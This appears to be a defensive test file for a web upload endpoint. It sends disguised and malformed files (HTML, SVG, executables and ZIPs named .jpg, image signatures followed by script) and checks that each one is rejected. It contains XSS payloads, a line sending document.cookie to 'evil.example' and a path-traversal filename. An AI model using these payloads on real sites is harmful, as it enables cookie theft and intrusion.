/**
 * Category 4: files that lie about their type (name .jpg, part type image/jpeg, content
 * something else), files with a right signature and a wrong body, and upload requests of the
 * wrong shape.
 */
import { IHDR, PNG_SIGNATURE, jpegFile } from '../uploads/fixtures.js';
import { fieldPart, filePart, multipart, type HostileCase, type Target } from './harness.js';

const unsupported = { status: 415, code: 'unsupported-media-type' } as const;
const invalid = { status: 400, code: 'invalid-request' } as const;
export const BOUNDARY = '----hostileFileBoundary7MA4YWxk';
export const MULTIPART = { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` };

const bytes = (...parts: (string | readonly number[] | Uint8Array)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part as Uint8Array))));

export function fileCases(target: Target): HostileCase[] {
  const { main } = target;
  const upload = (body: Buffer, headers: Record<string, string> = MULTIPART) => main.post('/ostra/api/uploads', body, headers);
  const asJpeg = (content: Uint8Array | string, filename = 'photo.jpg', type = 'image/jpeg') => upload(multipart(BOUNDARY, [filePart('file', filename, content, type)]));
  const jpeg = jpegFile({ metadata: false });
  const script = '<script>alert(document.cookie)</script>';

  return [
    // Other formats dressed as a JPEG.
    { name: 'HTML named .jpg', send: () => asJpeg(`<!doctype html><html><body>${script}</body></html>`), ...unsupported },
    { name: 'SVG with a script named .jpg', send: () => asJpeg(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`), ...unsupported },
    { name: 'JavaScript named .jpg', send: () => asJpeg('fetch("https://evil.example/?c="+document.cookie)'), ...unsupported },
    { name: 'Windows executable named .jpg', send: () => asJpeg(bytes('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0], Buffer.alloc(52), 'PE\0\0')), ...unsupported },
    { name: 'ELF executable named .jpg', send: () => asJpeg(bytes([0x7f], 'ELF', [2, 1, 1, 0], Buffer.alloc(56))), ...unsupported },
    { name: 'ZIP named .jpg', send: () => asJpeg(bytes('PK', [3, 4, 20, 0, 0, 0, 0, 0], Buffer.alloc(20), 'evil.html')), ...unsupported },
    { name: 'GIF named .gif', send: () => asJpeg(bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0], Buffer.alloc(6), [0x2c], Buffer.alloc(9), [0x02, 0x02, 0x44, 0x01, 0x00, 0x3b]), 'anim.gif', 'image/gif'), ...unsupported },
    { name: 'HTML named .pdf as application/pdf', send: () => asJpeg(`<html>${script}</html>`, 'report.pdf', 'application/pdf'), ...unsupported },
    { name: 'HTML page with a PDF header inside', send: () => asJpeg(`<html>${script}%PDF-1.7\n%%EOF`, 'report.pdf', 'application/pdf'), ...unsupported },
    { name: 'empty file', send: () => asJpeg(''), ...unsupported },
    // The right signature, then something else.
    { name: 'PNG signature followed by <script>', send: () => asJpeg(bytes(PNG_SIGNATURE, script), 'x.png', 'image/png'), ...unsupported },
    { name: 'PNG signature and IHDR, then <script>, no IEND', send: () => asJpeg(bytes(PNG_SIGNATURE, IHDR, script), 'x.png', 'image/png'), ...unsupported },
    { name: 'JPEG SOI followed by <script>', send: () => asJpeg(bytes([0xff, 0xd8, 0xff], script)), ...unsupported },
    { name: 'truncated JPEG (no end of scan)', send: () => asJpeg(jpeg.subarray(0, jpeg.length - 12)), ...unsupported },
    { name: 'JPEG cut after its first segment', send: () => asJpeg(jpeg.subarray(0, 24)), ...unsupported },
    { name: 'RIFF WEBP header over garbage', send: () => asJpeg(bytes('RIFF', [40, 0, 0, 0], 'WEBP', 'VP8 ', script), 'x.webp', 'image/webp'), ...unsupported },
    { name: 'PDF header alone', send: () => asJpeg('%PDF-', 'x.pdf', 'application/pdf'), ...unsupported },
    // Requests of the wrong shape.
    { name: 'two files in one request', send: () => upload(multipart(BOUNDARY, [filePart('file', 'a.jpg', jpeg), filePart('file', 'b.jpg', jpeg)])), ...invalid },
    { name: 'no file part, only fields', send: () => upload(multipart(BOUNDARY, [fieldPart('serviceId', 'broken-lamp'), fieldPart('file', 'photo.jpg')])), ...invalid },
    { name: 'file in a part not named "file"', send: () => upload(multipart(BOUNDARY, [filePart('photo', 'a.jpg', jpeg)])), ...invalid },
    { name: 'eleven parts', send: () => upload(multipart(BOUNDARY, [...Array.from({ length: 10 }, (_, index) => fieldPart(`f${index}`, 'x')), filePart('file', 'a.jpg', jpeg)])), ...invalid },
    { name: 'multipart without a boundary', send: () => upload(multipart(BOUNDARY, [filePart('file', 'a.jpg', jpeg)]), { 'content-type': 'multipart/form-data; charset=utf-8' }), ...invalid },
    { name: 'multipart with LF line endings', send: () => upload(Buffer.from(multipart(BOUNDARY, [filePart('file', 'a.jpg', 'x')]).toString('latin1').replace(/\r\n/g, '\n'), 'latin1')), ...invalid },
    { name: 'multipart never closed', send: () => upload(multipart(BOUNDARY, [filePart('file', 'a.jpg', jpeg)]).subarray(0, -(BOUNDARY.length + 6))), ...invalid },
    { name: 'filename* parameter (RFC 5987)', send: () => upload(multipart(BOUNDARY, [{ headers: [`Content-Disposition: form-data; name="file"; filename*=UTF-8''..%2F..%2Fx.jpg`, 'Content-Type: image/jpeg'], content: jpeg }])), ...invalid },
    { name: 'upload as application/json', send: () => upload(Buffer.from('{"file":"/9j/4AAQ"}'), { 'content-type': 'application/json' }), ...unsupported },
    { name: 'upload as image/jpeg body', send: () => upload(Buffer.from(jpeg), { 'content-type': 'image/jpeg' }), ...unsupported },
  ];
}
